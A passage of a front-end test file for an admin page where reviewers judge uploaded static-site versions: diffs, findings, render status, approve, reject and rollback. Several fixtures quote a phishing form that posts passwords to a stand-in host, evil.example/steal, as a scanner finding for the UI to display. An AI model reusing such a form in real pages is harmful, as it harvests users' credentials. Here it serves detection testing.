import { screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { makeDetail, makeProject, pagination } from './admin-fixtures';
import { type FakeHandler, fail, fakeApi, ok } from './fake-api';
import { adminUser, signIn } from './fixtures';
import { adminAbilities, makeDeployment } from './project-fixtures';
import { expectReadsUntilDecided, renderApp, withFakeIntervals } from './render';

async function openDetail(routes: Record<string, FakeHandler> = {}, path = '/admin/reviews/7') {
  const api = fakeApi({ 'GET /admin/projects/7': ok(makeDetail()), ...routes });
  signIn(adminUser());
  const app = renderApp(path);
  return { ...app, api };
}

/** Opens the decision select and picks an option by its label. */
async function choose(user: ReturnType<typeof renderApp>['user'], label: string) {
  await user.click(screen.getByRole('combobox', { name: '审核结果' }));
  await user.click(await findOption(label));
}

/** antd draws the visible options apart from its accessible list; click what a person sees. */
function findOption(label: string) {
  return waitFor(() => {
    const option = document.querySelector<HTMLElement>(`.ant-select-item-option[title="${label}"]`);
    if (!option) throw new Error(`没有选项：${label}`);
    return option;
  });
}

/** A live v2 (version id 32) and a v3 waiting for review (version id 33). */
function detailWithWaitingVersion() {
  const detail = makeDetail();
  return {
    ...detail,
    project: {
      ...detail.project,
      status: 'pending' as const,
      is_live: true,
      live_version: 2,
      latest_version: 3,
      deployments: [
        makeDeployment({ id: 33, version: 3, status: 'pending' }),
        makeDeployment({ id: 32, version: 2, status: 'approved', is_live: true }),
      ],
    },
  };
}

describe('review detail page', () => {
  it('says 项目ID无效 for an id that is not a number, without asking the server', async () => {
    const { api } = await openDetail({}, '/admin/reviews/abc');
    expect(await screen.findByText('项目ID无效')).toBeInTheDocument();
    expect(screen.getAllByRole('link', { name: /返回审核列表/ }).length).toBeGreaterThan(0);
    expect(api.calls('GET /admin/projects/abc')).toHaveLength(0);
  });

  it('reads a waiting project again every 10 s while the tab is visible, and stops once another admin decided', () =>
    withFakeIntervals(async () => {
      const waiting = makeDetail();
      let current = waiting;
      const { api } = await openDetail({ 'GET /admin/projects/7': () => ok(current) });
      const subtitle = async () =>
        (await screen.findByText(/项目 #7/)).closest('.review-detail__subtitle') as HTMLElement;
      expect(await subtitle()).toHaveTextContent('待审核');
      const approved = {
        ...waiting,
        project: {
          ...waiting.project,
          status: 'approved' as const,
          is_live: true,
          live_version: 1,
          abilities: adminAbilities({ status: 'approved', is_live: true }),
        },
      };
      await expectReadsUntilDecided(
        () => api.calls('GET /admin/projects/7').length,
        () => {
          current = approved;
        },
        async () => expect(await subtitle()).toHaveTextContent('已发布'),
      );
    }));

  it('says 项目不存在 with a way back when the server has no such project', async () => {
    await openDetail({ 'GET /admin/projects/7': fail(404, '项目不存在') });
    expect(await screen.findByText('项目不存在')).toBeInTheDocument();
    expect(screen.getAllByRole('link', { name: /返回审核列表/ }).length).toBeGreaterThan(0);
  });

  it('says 获取项目信息失败 with a reload button when loading fails', async () => {
    await openDetail({ 'GET /admin/projects/7': fail(500, '服务器内部错误，请稍后重试') });
    expect(await screen.findByText('获取项目信息失败')).toBeInTheDocument();
    expect(screen.getByRole('button', { name: /重新加载/ })).toBeInTheDocument();
  });

  it('shows each render: the newest version failed with its reason, the live one done', async () => {
    await openDetail({
      'GET /admin/projects/7': ok(
        makeDetail({
          renders: [
            {
              version: 3,
              newest: true,
              live: false,
              state: 'failed',
              attempts: 3,
              error: '页面在 10 秒内未加载完成（或无法截图），渲染超时',
              updated_at: '2024-05-01T08:00:05.000Z',
            },
            {
              version: 2,
              newest: false,
              live: true,
              state: 'done',
              attempts: 1,
              error: null,
              updated_at: '2024-04-01T08:00:05.000Z',
            },
          ],
        }),
      ),
    });
    const card = within(await screen.findByRole('list', { name: '渲染' }));
    const [newest, live] = card.getAllByRole('listitem');
    expect(within(newest!).getByText('版本 v3')).toBeInTheDocument();
    expect(within(newest!).getByText('最新版本')).toBeInTheDocument();
    expect(within(newest!).getByText('失败')).toBeInTheDocument();
    expect(within(newest!).getByText(/已尝试 3 次/)).toBeInTheDocument();
    expect(within(newest!).getByText('页面在 10 秒内未加载完成（或无法截图），渲染超时')).toBeInTheDocument();
    expect(within(live!).getByText('线上版本')).toBeInTheDocument();
    expect(within(live!).getByText('已完成')).toBeInTheDocument();
    expect(screen.getByText(/渲染失败时运行时检查不完整/)).toBeInTheDocument();
  });

  it('shows how the routing files changed between the live and the waiting version, in a tab of the diff', async () => {
    const diff = {
      from_version: 2,
      to_version: 3,
      added: [{ file: '_headers', size: 60 }],
      removed: [],
      changed: [{ file: '_redirects', old_size: 18, new_size: 40, text: true }],
      unchanged_count: 4,
      site_rules: {
        live: { redirects: '/old /new.html 301', headers: null },
        newest: {
          redirects: '/old /new.html 301\n/api/* /data.json 200',
          headers: '/*\n  Cross-Origin-Opener-Policy: same-origin',
        },
      },
    };
    const { user } = await openDetail({ 'GET /admin/projects/7': ok(makeDetail({ diff })) });
    await user.click(await screen.findByRole('tab', { name: '路由规则（有变化）' }));
    const panel = screen.getByRole('tabpanel', { name: '路由规则（有变化）' });
    const live = within(panel).getByRole('heading', { name: '线上 v2' }).parentElement!;
    const waiting = within(panel).getByRole('heading', { name: '待审 v3' }).parentElement!;
    // The live version has only _redirects; the waiting one adds a rewrite and a _headers file.
    expect(
      within(live)
        .getAllByRole('tab')
        .map((t) => t.textContent),
    ).toEqual(['_redirects']);
    expect(live.querySelector('pre')).toHaveTextContent('/old /new.html 301');
    expect(
      within(waiting)
        .getAllByRole('tab')
        .map((t) => t.textContent),
    ).toEqual(['_redirects', '_headers']);
    expect(waiting.querySelector('pre')).toHaveTextContent('/old /new.html 301 /api/* /data.json 200');
    await user.click(within(waiting).getByRole('tab', { name: '_headers' }));
    expect(within(waiting).getByText(/Cross-Origin-Opener-Policy: same-origin/)).toBeVisible();
  });

  it('names a version without routing files in the diff, and shows no routing tab when nothing changed', async () => {
    const base = {
      from_version: 1,
      to_version: 2,
      added: [],
      removed: [{ file: '_redirects', size: 18 }],
      changed: [],
      unchanged_count: 2,
      site_rules: { live: { redirects: '/old /new.html 301', headers: null }, newest: null },
    };
    const { user, unmount } = await openDetail({ 'GET /admin/projects/7': ok(makeDetail({ diff: base })) });
    await user.click(await screen.findByRole('tab', { name: '路由规则（有变化）' }));
    expect(screen.getByText('待审 v2 没有 _redirects 或 _headers 文件')).toBeInTheDocument();
    unmount();

    const same = {
      ...base,
      removed: [],
      site_rules: { live: base.site_rules.live, newest: base.site_rules.live },
    };
    await openDetail({ 'GET /admin/projects/7': ok(makeDetail({ diff: same })) });
    expect(await screen.findByRole('tab', { name: /修改（0）/ })).toBeInTheDocument();
    expect(screen.queryByRole('tab', { name: /路由规则/ })).toBeNull();
  });

  it('shows a changed text file’s line diff when the reviewer opens it, and only then asks for it', async () => {
    const diff = {
      from_version: 1,
      to_version: 2,
      added: [],
      removed: [],
      changed: [
        { file: 'index.html', old_size: 40, new_size: 44, text: true },
        { file: 'js/vendor.min.js', old_size: 600_000, new_size: 600_100, text: true },
        { file: 'logo.png', old_size: 900, new_size: 950, text: false },
      ],
      unchanged_count: 3,
      site_rules: { live: null, newest: null },
    };
    const same = Array.from({ length: 10 }, (_, i) => `<p>${i + 1}</p>`);
    const { user, api } = await openDetail({
      'GET /admin/projects/7': ok(makeDetail({ diff })),
      'GET /admin/projects/7/file-diff': (request) =>
        request.params?.path === 'index.html'
          ? ok({
              path: 'index.html',
              from_version: 1,
              to_version: 2,
              old_size: 40,
              new_size: 44,
              too_large: false,
              old_text: ['<h1>一</h1>', ...same, '<footer>旧</footer>', ''].join('\n'),
              new_text: [
                '<h1>二</h1>',
                ...same,
                '<footer>旧</footer>',
                '<script src="x.js"></script>',
                '',
              ].join('\n'),
            })
          : ok({
              path: 'js/vendor.min.js',
              from_version: 1,
              to_version: 2,
              old_size: 600_000,
              new_size: 600_100,
              too_large: true,
              old_text: null,
              new_text: null,
            }),
    });
    const open = await screen.findByRole('button', { name: '查看 index.html 的逐行差异' });
    expect(api.calls('GET /admin/projects/7/file-diff')).toHaveLength(0);
    // A picture has no line diff.
    const png = screen.getByText('logo.png').closest('tr')!;
    expect(within(png).getByText('非文本')).toBeInTheDocument();
    expect(within(png).queryByRole('button')).toBeNull();

    await user.click(open);
    const lines = await screen.findByRole('figure', { name: 'index.html 逐行差异' });
    expect(api.calls('GET /admin/projects/7/file-diff')[0]?.params).toEqual({ path: 'index.html' });
    const removed = [...lines.querySelectorAll('.line-diff__line--removed')].map((l) => l.textContent);
    const added = [...lines.querySelectorAll('.line-diff__line--added')].map((l) => l.textContent);
    // Old and new line numbers, the sign, the text.
    expect(removed).toEqual(['1-<h1>一</h1>']);
    expect(added).toEqual(['1+<h1>二</h1>', '13+<script src="x.js"></script>']);
    // Two changes ten lines apart: two hunks with three lines of context each, the middle left out.
    expect(lines.querySelectorAll('.line-diff__hunk')).toHaveLength(2);
    expect(lines.textContent).not.toContain('<p>6</p>');
    expect(screen.getByRole('button', { name: '收起 index.html 的逐行差异' })).toHaveAttribute(
      'aria-expanded',
      'true',
    );

    // Beyond the size bound: said so, no text.
    await user.click(screen.getByRole('button', { name: '查看 js/vendor.min.js 的逐行差异' }));
    expect(await screen.findByText('文件过大（超过 512 KB），不显示逐行差异')).toBeInTheDocument();

    await user.click(screen.getByRole('button', { name: '收起 index.html 的逐行差异' }));
    await waitFor(() => expect(screen.queryByRole('figure', { name: 'index.html 逐行差异' })).toBeNull());
  });

  it('says why when a line diff can’t be loaded', async () => {
    const diff = {
      from_version: 1,
      to_version: 2,
      added: [],
      removed: [],
      changed: [{ file: 'app.js', old_size: 4, new_size: 5, text: true }],
      unchanged_count: 0,
      site_rules: { live: null, newest: null },
    };
    const { user } = await openDetail({
      'GET /admin/projects/7': ok(makeDetail({ diff })),
      'GET /admin/projects/7/file-diff': fail(404, '该版本中没有这个文件'),
    });
    await user.click(await screen.findByRole('button', { name: '查看 app.js 的逐行差异' }));
    expect(await screen.findByText('加载逐行差异失败')).toBeInTheDocument();
    expect(screen.getByText('该版本中没有这个文件')).toBeInTheDocument();
  });

  it('lays the findings table out at fixed widths on a wide screen, the excerpt in full', async () => {
    await openDetail();
    const table = (await screen.findByText('密码表单')).closest('table')!;
    expect(table.style.tableLayout).toBe('fixed');
    const headers = [...table.querySelectorAll('thead th')].map((th) => th.textContent);
    expect(headers).toEqual(['级别', '类型', '说明', '位置']);
    const widths = [...table.querySelectorAll('colgroup col')].map((col) => (col as HTMLElement).style.width);
    expect(widths).toEqual(['88px', '128px', '', '180px']);
    // The excerpt is wrapped in the 说明 cell, not cut to an ellipsis.
    const excerpt = table.querySelector('.finding-excerpt-inline')!;
    expect(excerpt.textContent).toBe('<form method="post" action="https://evil.example/steal">');
    expect(excerpt.closest('.ant-typography-ellipsis')).toBeNull();
  });

  it('stacks a finding’s type, message, location and excerpt in one cell on a phone', async () => {
    const width = window.innerWidth;
    window.innerWidth = 390;
    try {
      await openDetail();
      const kind = await screen.findByText('密码表单');
      const table = kind.closest('table')!;
      await waitFor(() =>
        expect([...table.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual(['级别', '说明']),
      );
      const cell = kind.closest('td')!;
      expect(
        within(cell).getByText('表单收集密码并提交到外部域名 evil.example：疑似钓鱼'),
      ).toBeInTheDocument();
      expect(within(cell).getByRole('button', { name: 'index.html:12' })).toBeInTheDocument();
      expect(cell.querySelector('.finding-excerpt-inline')).toHaveTextContent('<form method="post"');
    } finally {
      window.innerWidth = width;
    }
  });

  it('offers 去审核决定 while the decision card is out of view, which brings it and its first field up', async () => {
    const { user } = await openDetail();
    // jsdom has no IntersectionObserver: the card counts as out of view.
    const bar = await screen.findByRole('region', { name: '审核决定入口' });
    expect(within(bar).getByText('待审核')).toBeInTheDocument();
    await user.click(within(bar).getByRole('button', { name: /去审核决定/ }));
    const card = document.getElementById('review-decision')!;
    expect(card).toHaveTextContent('审核决定');
    expect(card.contains(document.activeElement)).toBe(true);
    expect(screen.getByRole('combobox', { name: '审核结果' })).toHaveFocus();
  });

  it('hides the 去审核决定 bar while the decision card is on screen', async () => {
    const observed: Element[] = [];
    class OnScreen {
      constructor(private readonly report: (entries: Array<{ isIntersecting: boolean }>) => void) {}
      observe(element: Element) {
        observed.push(element);
        this.report([{ isIntersecting: true }]);
      }
      disconnect() {}
    }
    Object.assign(window, { IntersectionObserver: OnScreen });
    try {
      await openDetail();
      expect(await screen.findByRole('heading', { name: '审核：个人主页' })).toBeInTheDocument();
      await waitFor(() => expect(observed.map((e) => e.id)).toContain('review-decision'));
      expect(screen.queryByRole('region', { name: '审核决定入口' })).toBeNull();
    } finally {
      Reflect.deleteProperty(window, 'IntersectionObserver');
    }
  });

  it('shows the project, its content check, files and statistics', async () => {
    await openDetail();
    expect(await screen.findByRole('heading', { name: '审核：个人主页' })).toBeInTheDocument();
    expect(screen.getByText('表单收集密码并提交到外部域名 evil.example：疑似钓鱼')).toBeInTheDocument();
    // Why the level, in one sentence, above the findings.
    expect(
      screen.getByText(
        '判为高风险，几乎可以肯定有恶意：表单收集密码并提交到外部域名 evil.example：疑似钓鱼。',
      ),
    ).toBeInTheDocument();
    expect(screen.getByText('index.html:12')).toBeInTheDocument();
    expect(screen.getByText('密码表单')).toBeInTheDocument();
    expect(screen.getAllByText('高风险').length).toBeGreaterThan(0);
    expect(screen.getByText('cdn.example.com')).toBeInTheDocument();
    expect(screen.getByText('css/app.css')).toBeInTheDocument();
    expect(screen.getByText('42')).toBeInTheDocument();
    expect(screen.getByRole('figure', { name: /最近 30 天访问量/ })).toBeInTheDocument();
  });

  it('opens a finding’s file at its line, and lists usability findings apart with how to fix them', async () => {
    const lines = Array.from({ length: 20 }, (_, i) => `<p>第 ${i + 3} 行</p>`);
    lines[9] = '<form method="post" action="https://evil.example/steal">';
    const { user, api } = await openDetail({
      'GET /admin/projects/7/source': ok({
        path: 'index.html',
        version: 1,
        first_line: 3,
        lines,
        truncated: false,
      }),
    });
    // The excerpt is in the table already; the location opens the file.
    expect(
      await screen.findByText('<form method="post" action="https://evil.example/steal">'),
    ).toBeInTheDocument();
    await user.click(await screen.findByRole('button', { name: 'index.html:12' }));
    const dialog = await screen.findByRole('dialog');
    const file = await within(dialog).findByLabelText('index.html:12 文件内容');
    expect(file).toHaveTextContent('3<p>第 3 行</p>');
    const current = file.querySelector('.finding-source__line--current');
    expect(current).toHaveTextContent('12<form method="post" action="https://evil.example/steal">');
    expect(api.calls('GET /admin/projects/7/source')[0]?.params).toEqual({ path: 'index.html', line: 12 });
    // The usability finding is not in the risk table but in its own list, with its fix.
    expect(screen.getByRole('heading', { name: '可用性问题（1）' })).toBeInTheDocument();
    expect(screen.getByText(/修改方法：压缩图片和视频/)).toBeInTheDocument();
    const table = document.querySelector('.check-findings')!;
    expect(table.textContent).not.toContain('文件较大');
  });

  it('lists the hosts the page asked when it ran with the other hosts, and a router build’s base as the site’s path', async () => {
    const base = makeDetail();
    const check = base.content_check!;
    await openDetail({
      'GET /admin/projects/7': ok({
        ...base,
        project: { ...base.project, access_url: 'https://sites.example/sites/vite/' },
        content_check: {
          ...check,
          external_domains: { ...check.external_domains, forms: [], script_hosts: [] },
          findings: [
            ...check.findings,
            {
              severity: 'info',
              category: 'usability',
              kind: 'root_absolute_link',
              rule: 'ref.root-absolute',
              message: '以 / 开头的地址“/assets/a.js”',
              file: 'index.html',
              line: 1,
            },
          ],
          runtime: {
            rendered_at: '2024-05-01T08:00:02.000Z',
            external_requests: [
              { method: 'GET', url: 'https://example.com/x.png', resource_type: 'image', allowed: false },
            ],
            navigations: [],
            downloads: [],
            dialogs: [],
            permissions: [],
            console_errors: [],
            missing: [],
            blank: false,
            risk_counts: { high: 0, medium: 0, low: 0, info: 1 },
          },
        },
      }),
    });
    const domains = (await screen.findByRole('heading', { name: '外部域名' })).parentElement!;
    expect(within(domains).getByText('运行时请求')).toBeInTheDocument();
    expect(within(domains).getByText('example.com')).toBeInTheDocument();
    expect(within(domains).queryByText(/未发现外部域名/)).toBeNull();
    expect(screen.getByText(/base: "\/sites\/vite\/"/)).toBeInTheDocument();
    expect(screen.queryByText(/base: "\.\/"/)).toBeNull();
  });

  it('shows the excerpt and the reason when the file can’t be opened', async () => {
    const { user } = await openDetail({
      'GET /admin/projects/7/source': fail(404, '该版本中没有这个文件'),
    });
    await user.click(await screen.findByRole('button', { name: 'index.html:12' }));
    const dialog = await screen.findByRole('dialog');
    expect(await within(dialog).findByText('该版本中没有这个文件')).toBeInTheDocument();
    expect(within(dialog).getByLabelText('index.html:12 摘录')).toHaveTextContent(
      '12<form method="post" action="https://evil.example/steal">',
    );
  });

  it('never says “no problems” in green: a report without risk findings says what the check covers', async () => {
    const base = makeDetail();
    const check = base.content_check!;
    await openDetail({
      'GET /admin/projects/7': ok({
        ...base,
        content_check: {
          ...check,
          level: 'clean',
          counts: { high: 0, medium: 0, low: 0, info: 0 },
          findings: check.findings.filter((f) => f.category === 'usability'),
        },
      }),
    });
    expect((await screen.findAllByText('自动检查未发现已知风险')).length).toBeGreaterThan(0);
    expect(screen.getByText('自动检查涵盖')).toBeInTheDocument();
    expect(screen.getByText('不涵盖')).toBeInTheDocument();
    expect(screen.getByText(/图片、视频中的文字与内容/)).toBeInTheDocument();
    expect(screen.queryByText('自动检查未发现问题')).toBeNull();
    expect(screen.queryByText('未发现问题')).toBeNull();
    expect(document.querySelector('.check-clean.ant-alert-success')).toBeNull();
  });

  it.each([
    { upload_type: 'zip', upload_source: 'rar', shown: 'RAR 压缩包' },
    { upload_type: 'zip', upload_source: '7z', shown: '7z 压缩包' },
    { upload_type: 'zip', upload_source: 'zip', shown: 'ZIP 压缩包' },
    { upload_type: 'files', upload_source: 'files', shown: '文件上传' },
    { upload_type: 'files', upload_source: 'deploy', shown: '命令行部署' },
    // Uploaded before the way in was recorded: named as always (a RAR among them reads ZIP).
    { upload_type: 'zip', upload_source: null, shown: 'ZIP 压缩包' },
    { upload_type: 'files', upload_source: null, shown: '文件上传' },
  ] as const)('names the way in $upload_source ($upload_type) as 上传方式 $shown', async (way) => {
    const detail = makeDetail();
    await openDetail({
      'GET /admin/projects/7': ok({
        ...detail,
        project: { ...detail.project, upload_type: way.upload_type, upload_source: way.upload_source },
      }),
    });
    const label = await screen.findByText('上传方式', { selector: '.ant-descriptions-item-label' });
    expect(label.nextElementSibling).toHaveTextContent(way.shown);
  });

  it('names each version’s real archive format and command-line deploys in the versions list', async () => {
    const detail = makeDetail();
    await openDetail({
      'GET /admin/projects/7': ok({
        ...detail,
        project: {
          ...detail.project,
          deployments: [
            makeDeployment({
              id: 24,
              version: 4,
              status: 'pending',
              upload_type: 'zip',
              upload_source: 'rar',
            }),
            makeDeployment({ id: 23, version: 3, upload_type: 'files', upload_source: 'deploy' }),
            makeDeployment({ id: 22, version: 2, upload_type: 'zip', upload_source: '7z' }),
            makeDeployment({ id: 21, version: 1, upload_type: 'zip', upload_source: null }),
          ],
        },
      }),
    });
    const versions = (await screen.findByText('版本记录')).closest('.ant-card') as HTMLElement;
    const row = (version: string) => within(versions).getByText(version).closest('tr');
    expect(row('v4')).toHaveTextContent('2 个 · 2 KB · RAR');
    expect(row('v3')).toHaveTextContent('2 个 · 2 KB · 命令行部署');
    expect(row('v2')).toHaveTextContent('2 个 · 2 KB · 7z');
    expect(row('v1')).toHaveTextContent('2 个 · 2 KB · ZIP');
  });

  it('shows the reviewer which files are kept as downloads only', async () => {
    const detail = makeDetail();
    detail.project.files = [
      ...detail.project.files!,
      {
        file_name: 'html.meta.json.gz',
        file_type: 'gz',
        file_size: 300,
        mime_type: 'application/octet-stream',
        download_only: true,
      },
    ];
    await openDetail({ 'GET /admin/projects/7': ok(detail) });
    expect(await screen.findByText('1 个文件仅供下载，不作为网页内容')).toBeInTheDocument();
    expect(screen.getByText(/"html\.meta\.json\.gz"/)).toBeInTheDocument();
    expect(screen.getByText('仅供下载', { selector: '.ant-tag' })).toBeInTheDocument();
  });

  it('downloads the version under review with 下载, not the live one, under the name the server gives it', async () => {
    const createObjectURL = vi.fn(() => 'blob:zip');
    Object.assign(URL, { createObjectURL, revokeObjectURL: vi.fn() });
    const saved: string[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      saved.push(this.download);
    });
    const { api, user } = await openDetail({
      'GET /admin/projects/7': ok(detailWithWaitingVersion()),
      'GET /admin/projects/7/download': {
        status: 200,
        body: new Blob([new Uint8Array([0x50, 0x4b, 3, 4])]),
        headers: { 'content-disposition': 'attachment; filename="project-7-v3.zip"' },
      },
    });
    const info = (await screen.findByText('项目信息')).closest('.ant-card') as HTMLElement;
    await user.click(within(info).getByRole('button', { name: '下载' }));

    await waitFor(() => expect(api.calls('GET /admin/projects/7/download')).toHaveLength(1));
    expect(api.calls('GET /admin/projects/7/download')[0]?.params).toEqual({ deployment_id: 33 });
    expect(await screen.findByText('已开始下载 project-7-v3.zip')).toBeInTheDocument();
    expect(saved).toEqual(['project-7-v3.zip']);
  });

  it('downloads any version from the versions list', async () => {
    Object.assign(URL, { createObjectURL: vi.fn(() => 'blob:zip'), revokeObjectURL: vi.fn() });
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    const { api, user } = await openDetail({
      'GET /admin/projects/7': ok(detailWithWaitingVersion()),
      'GET /projects/7/download': {
        status: 200,
        body: new Uint8Array([0x50, 0x4b, 3, 4]).buffer,
        headers: { 'content-disposition': 'attachment; filename="project-7-v2.zip"' },
      },
    });
    const versions = (await screen.findByText('版本记录')).closest('.ant-card') as HTMLElement;
    await user.click(within(versions).getByRole('button', { name: '下载 v2' }));
    await waitFor(() => expect(api.calls('GET /projects/7/download')).toHaveLength(1));
    expect(api.calls('GET /projects/7/download')[0]?.params).toEqual({ deployment_id: 32 });
  });

  it('leads on to the upload that has waited longest once the project is decided', async () => {
    const decided = makeDetail({ project: { ...makeDetail().project, status: 'approved' } });
    const { api, router, user } = await openDetail({
      'GET /admin/projects/7': ok(decided),
      'GET /admin/projects': ok({
        projects: [makeProject({ id: 7, name: '本项目' }), makeProject({ id: 9, name: '等得最久' })],
        pagination: pagination(2, 1, 2),
        counts: { all: 2, pending: 2, approved: 0, published: 0, rejected: 0, taken_down: 0 },
      }),
    });
    const next = await screen.findByRole('link', { name: '下一个待审核：等得最久' });
    expect(api.calls('GET /admin/projects')[0]?.params).toMatchObject({ status: 'pending', sort: 'oldest' });
    await user.click(next);
    await waitFor(() => expect(router.state.location.pathname).toBe('/admin/reviews/9'));
  });

  it('says none is left when the queue is empty', async () => {
    await openDetail({
      'GET /admin/projects/7': ok(makeDetail({ project: { ...makeDetail().project, status: 'rejected' } })),
      'GET /admin/projects': ok({
        projects: [],
        pagination: pagination(0, 1, 2),
        counts: { all: 0, pending: 0, approved: 0, published: 0, rejected: 0, taken_down: 0 },
      }),
    });
    expect(await screen.findByText('没有其他待审核的项目了。')).toBeInTheDocument();
  });

  it('asks for a decision before submitting: 请选择审核状态', async () => {
    const { api, user } = await openDetail();
    await user.click(await screen.findByRole('button', { name: '提交审核' }));
    expect(await screen.findByText('请选择审核状态')).toBeInTheDocument();
    expect(api.calls('POST /admin/projects/7/review')).toHaveLength(0);
  });

  it('needs a reason to reject: 拒绝项目时必须提供原因, then sends it', async () => {
    const { api, user } = await openDetail({
      'POST /admin/projects/7/review': ok({ project: makeDetail().project }, '项目已拒绝'),
    });
    await screen.findByRole('button', { name: '提交审核' });
    await choose(user, '拒绝');
    await user.click(screen.getByRole('button', { name: '提交审核' }));
    expect(await screen.findByText('拒绝项目时必须提供原因')).toBeInTheDocument();
    expect(api.calls('POST /admin/projects/7/review')).toHaveLength(0);

    await user.type(screen.getByLabelText('原因（必填）'), '  请补充首页内容  ');
    await user.click(screen.getByRole('button', { name: '提交审核' }));
    expect(await screen.findByText('审核完成')).toBeInTheDocument();
    expect(api.calls('POST /admin/projects/7/review')[0]?.body).toEqual({
      action: 'reject',
      comment: '请补充首页内容',
      version: makeDetail().project.latest_version,
    });
  });

  it('approves without a comment', async () => {
    const { api, user } = await openDetail({
      'POST /admin/projects/7/review': ok({ project: makeDetail().project }, '项目已通过'),
    });
    await screen.findByRole('button', { name: '提交审核' });
    await choose(user, '通过');
    await user.click(screen.getByRole('button', { name: '提交审核' }));
    expect(await screen.findByText('审核完成')).toBeInTheDocument();
    // The version on the page: one uploaded since is refused by the server, not approved unseen.
    expect(api.calls('POST /admin/projects/7/review')[0]?.body).toEqual({
      action: 'approve',
      version: makeDetail().project.latest_version,
    });
    expect(makeDetail().project.latest_version).toBeGreaterThan(0);
  });

  it('asks before approving a version without a home page (index.html), and approves only on 仍然通过', async () => {
    const detail = makeDetail();
    const { api, user } = await openDetail({
      'GET /admin/projects/7': ok({
        ...detail,
        project: { ...detail.project, entry_file: null, file_count: 4 },
      }),
      'POST /admin/projects/7/review': ok({ project: detail.project }, '项目已通过'),
    });
    await screen.findByRole('button', { name: '提交审核' });
    await choose(user, '通过');
    expect(
      screen.getByText(/这个版本没有首页（index.html），上线后打开站点地址会显示 404/),
    ).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: '提交审核' }));
    const title = await screen.findByText('通过「个人主页」？', { selector: '.ant-modal-confirm-title' });
    const dialog = title.closest('.ant-modal') as HTMLElement;
    expect(within(dialog).getByText(/这个版本没有首页（index.html）/)).toBeInTheDocument();
    expect(api.calls('POST /admin/projects/7/review')).toHaveLength(0);
    await user.click(within(dialog).getByRole('button', { name: '仍然通过' }));
    expect(await screen.findByText('审核完成')).toBeInTheDocument();
    expect(api.calls('POST /admin/projects/7/review')).toHaveLength(1);
  });

  it('decides once on a double-click of 提交审核: no refusal after the success', async () => {
    let answer!: () => void;
    const answered = new Promise<void>((resolve) => {
      answer = resolve;
    });
    let decided = false;
    const { api, user } = await openDetail({
      'POST /admin/projects/7/review': async () => {
        await answered;
        if (decided) return fail(409, '当前状态（已通过）不能执行此操作（通过）');
        decided = true;
        return ok({ project: makeDetail().project }, '项目已通过');
      },
    });
    await screen.findByRole('button', { name: '提交审核' });
    await choose(user, '通过');
    await user.dblClick(screen.getByRole('button', { name: '提交审核' }));
    await waitFor(() => expect(api.calls('POST /admin/projects/7/review').length).toBeGreaterThan(0));
    answer();
    expect(await screen.findByText('审核完成')).toBeInTheDocument();
    expect(api.calls('POST /admin/projects/7/review')).toHaveLength(1);
    expect(screen.queryByText(/提交审核失败/)).not.toBeInTheDocument();
  });

  it('reports a refused decision as 提交审核失败 with the server’s reason', async () => {
    const { user } = await openDetail({
      'POST /admin/projects/7/review': fail(409, '当前状态（已通过）不能执行此操作（通过）'),
    });
    await screen.findByRole('button', { name: '提交审核' });
    await choose(user, '通过');
    await user.click(screen.getByRole('button', { name: '提交审核' }));
    expect(
      await screen.findByText('提交审核失败：当前状态（已通过）不能执行此操作（通过）'),
    ).toBeInTheDocument();
  });

  it('clears a chosen action the status no longer allows after a refusal, keeping the comment', async () => {
    const detail = makeDetail();
    let decided = false;
    const approved = {
      ...detail,
      project: {
        ...detail.project,
        status: 'approved' as const,
        is_live: true,
        live_version: 1,
        abilities: adminAbilities({ status: 'approved', is_live: true }),
      },
    };
    const { user } = await openDetail({
      'GET /admin/projects/7': () => ok(decided ? approved : detail),
      'POST /admin/projects/7/review': () => {
        decided = true;
        return fail(409, '当前状态（已发布）不能执行此操作（拒绝）');
      },
    });
    await screen.findByRole('button', { name: '提交审核' });
    await choose(user, '拒绝');
    await user.type(screen.getByRole('textbox', { name: /原因/ }), '缺少首页');
    await user.click(screen.getByRole('button', { name: '提交审核' }));
    expect(
      await screen.findByText('提交审核失败：当前状态（已发布）不能执行此操作（拒绝）'),
    ).toBeInTheDocument();
    await waitFor(() => expect(screen.getByText('请选择审核结果')).toBeInTheDocument());
    expect(screen.getByRole('textbox', { name: /审核意见/ })).toHaveValue('缺少首页');
  });

  it('offers the actions the status allows: a live featured project can be unfeatured or taken down', async () => {
    const detail = makeDetail();
    const { user } = await openDetail({
      'GET /admin/projects/7': ok({
        ...detail,
        project: {
          ...detail.project,
          status: 'published',
          is_live: true,
          featured: true,
          live_version: 1,
          abilities: adminAbilities({ status: 'published', is_live: true }),
        },
      }),
    });
    await screen.findByRole('button', { name: '提交审核' });
    await user.click(screen.getByRole('combobox', { name: '审核结果' }));
    await findOption('下线');
    const labels = [...document.querySelectorAll('.ant-select-item-option')].map((o) =>
      o.getAttribute('title'),
    );
    expect(labels).toEqual(['取消精选', '下线']);
  });

  it('rolls the live site back to an earlier approved version after asking, then shows the new state', async () => {
    const detail = makeDetail();
    const live = {
      ...detail.project,
      status: 'approved' as const,
      is_live: true,
      access_url: '/sites/7/',
      live_version: 3,
      latest_version: 3,
      deployments: [
        makeDeployment({ id: 23, version: 3, status: 'approved', is_live: true }),
        makeDeployment({ id: 22, version: 2, status: 'rejected', review_comment: '缺少首页' }),
        makeDeployment({ id: 21, version: 1, status: 'approved' }),
      ],
    };
    const rolledBack = {
      ...live,
      live_version: 1,
      // What the server then sends: v1 live, v3 (approved, no longer live) may be made live again.
      deployments: live.deployments.map((d) => ({
        ...d,
        is_live: d.version === 1,
        abilities: { rollback: d.status === 'approved' && d.version !== 1 },
      })),
    };
    let current = live;
    const { api, user } = await openDetail({
      'GET /admin/projects/7': () => ok({ ...detail, project: current }),
      'POST /projects/7/rollback': () => {
        current = rolledBack;
        return ok({ project: rolledBack }, '已回滚到所选版本');
      },
    });
    const versions = (await screen.findByText('版本记录')).closest('.ant-card') as HTMLElement;
    // Only the earlier approved version is offered: not the live one, not the rejected one.
    const offered = within(versions).getAllByRole('button', { name: /回滚/ });
    expect(offered).toHaveLength(1);
    expect(offered[0]!.closest('tr')).toHaveTextContent('v1');

    await user.click(offered[0]!);
    expect(
